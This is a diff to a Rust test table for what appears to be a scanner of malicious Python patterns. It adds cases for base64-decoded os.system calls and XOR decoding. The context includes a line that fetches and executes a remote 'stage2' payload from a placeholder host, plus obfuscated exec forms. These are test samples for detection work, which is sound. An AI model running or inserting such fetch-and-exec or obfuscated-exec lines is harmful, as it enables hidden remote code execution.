@@ -83,6 +83,8 @@ fn cases() -> Vec<Case> {
         case("dl-exec-remote", m, r#"exec(requests.get("https://payload.invalid/stage2").text)"#, "value = ast.literal_eval(requests_text)"),
         case("dl-content-fetch", m, "body = urlopen(url).read()", "body = open(path).read()"),
         case("obf-exec-decode", m, "exec(base64.b64decode(BLOB))", r#"pattern = re.compile(r"[\x00-\x1f]")"#),
+        case("obf-process-decode", m, "os.system(base64.b64decode(cmd))", "os.system(cmd)"),
+        case("obf-xor-decode", m, "out += chr(ord(c) ^ ord(k))", "out += chr(ord(c) + 1)"),
         case("obf-decode", m, "data = base64.b64decode(s)", "data = base64.b64encode(s)"),
         case("obf-exec", m, "exec(code)", "cursor.execute(sql)"),
         case("obf-builtins-indirection", m, r#"f = getattr(__builtins__, "ex" + "ec")"#, "if inspect.isclass(getattr(builtins, name, None)):"),
